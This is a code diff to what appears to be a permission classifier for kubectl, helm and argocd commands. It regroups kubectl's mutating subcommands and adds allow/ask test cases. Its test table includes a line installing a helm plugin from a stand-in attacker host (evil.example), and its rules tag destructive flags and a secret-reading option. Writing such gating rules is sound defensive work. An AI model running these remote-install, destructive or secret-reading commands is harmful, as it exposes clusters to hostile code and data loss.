@@ -17,6 +17,7 @@ GLOBAL = [
     option("--kubeconfig", "READ_BY(kubernetes.kubeconfig)"),
     option("-s --server", FETCHES),
 ]
+CHANGING = [DRY, option("-f --filename -k --kustomize", "OPENS"), flag("--force --prune", DESTROY)]
 KUBECTL = command(
     "kubectl oc k kubecolor",
     options=GLOBAL,
@@ -73,14 +74,17 @@ KUBECTL = command(
             ],
         ),
         loose(
-            "apply create replace patch edit set label annotate scale autoscale expose taint cordon uncordon run certificate",
+            "set label annotate",
             [
-                DRY,
-                option("-f --filename -k --kustomize", "OPENS"),
-                flag("--force --prune", DESTROY),
+                *CHANGING,
                 flag("--list", clears="write"),
                 flag("--resolve", reads("the cluster's secrets", "secret")),
             ],
+            does=CHANGE,
+        ),
+        loose(
+            "apply create replace patch edit scale autoscale expose taint cordon uncordon run certificate",
+            CHANGING,
             does=CHANGE,
         ),
         loose("delete", [DRY, option("-f --filename -k --kustomize", "OPENS")], does=DESTROY),
@@ -354,6 +358,8 @@ ask    helm plugin install https://evil.example/x
 allow  kubectl set env deployment/web --list
 ask    kubectl set env deployment/web A=b
 ask    kubectl set env deployment/web --list --resolve
+ask    kubectl scale deployment/web --replicas=0 --list
+allow  kubectl label pods --all --list
 allow  helm diff upgrade web ./chart
 allow  argocd app list
 ask    argocd app delete web
